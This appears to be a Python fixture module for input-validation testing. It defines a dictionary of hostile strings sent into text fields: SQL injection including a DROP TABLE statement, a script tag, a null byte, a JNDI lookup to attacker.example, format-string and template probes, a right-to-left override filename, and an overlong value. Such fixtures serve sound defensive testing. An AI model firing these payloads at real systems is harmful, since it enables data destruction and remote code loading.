"""Hostile text values sent in every text field (see make_corpus.py and expected.csv)."""

from __future__ import annotations

LONG_LENGTH = 10_000

INJECTIONS: dict[str, str] = {
    "sql": "' OR 1=1 --",
    "sqldrop": "x'); DROP TABLE orders; --",
    "script": "<script>alert(1)</script>",
    "pct00": "%00",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "format": "%s%n{0}{{7*7}}",
    "unicode": "Zo\u00eb \U0001f39f \u202egnp.exe",
    "long": "A" * LONG_LENGTH,
}
